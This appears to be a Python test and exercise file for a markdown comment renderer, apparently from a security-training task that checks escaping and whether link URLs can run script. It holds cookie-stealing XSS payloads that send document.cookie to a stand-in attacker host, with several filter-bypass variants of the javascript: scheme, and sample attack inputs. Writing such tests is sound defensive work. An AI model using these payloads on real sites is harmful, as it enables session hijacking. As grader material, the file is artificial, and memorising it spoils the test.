from datetime import UTC, datetime

from page import scripts_of, tags_of


def render(code, source):
    comment = code.Comment(12, "Ada <ada@example.com>", datetime(2026, 1, 5, tzinfo=UTC), source)
    return code.render_comment(comment)


def works(code):
    html = render(code, "See [the guide](https://example.com/guide?a=1&b=2), `a<b>` and\nask @grace-h.\n\n<b>Bye</b>")
    tags = tags_of(html)
    links = [(tag["attributes"]["href"], tag["text"]) for tag in tags if tag["name"] == "a"]
    assert links == [("https://example.com/guide?a=1&b=2", "the guide"), ("/people/grace-h", "@grace-h")], links
    assert [tag["text"] for tag in tags if tag["name"] == "code"] == ["a<b>"]
    assert len([tag for tag in tags if tag["name"] == "p"]) == 2
    assert "&lt;b&gt;Bye" in html
    assert "Ada &lt;ada@example.com&gt;" in html


STEAL = "location='https://attacker.example/?'+document.cookie"
FORMS = (
    f"javascript:{STEAL}",
    f"JavaScript:{STEAL}",
    f"\x01javascript:{STEAL}",
    f"javascript://example.com/%0a{STEAL}",
)


def exploit(code, vary=None, payloads=FORMS):
    for target in payloads:
        scripts = scripts_of(render(code, f"See the [release notes]({target})"))
        if any(script.endswith("document.cookie") for script in scripts):
            return True
    return False


# Attack mode: the learner writes the input.
def attack(code, input, vary):
    try:
        comment = code.Comment(vary.number(10, 99), vary.name(), datetime(2026, 1, 5, tzinfo=UTC), input["comment"])
        html = code.render_comment(comment)
    except Exception as error:
        return {"isDone": False, "shown": f"{type(error).__name__}: {error}"}
    scripts = scripts_of(html)
    lines = [f"A click runs: {script}" for script in scripts] or ["Nothing in this page runs a script."]
    return {"isDone": bool(scripts), "shown": "\n".join([html, "", *lines])}


ATTACKS = [
    {"input": {"comment": "See [the guide](javascript:alert(document.cookie))."}, "isDone": True},
    {"input": {"comment": "See [the guide](https://example.com/guide)."}, "isDone": False},
    {"input": {"comment": "<script>alert(1)</script>"}, "isDone": False},
]
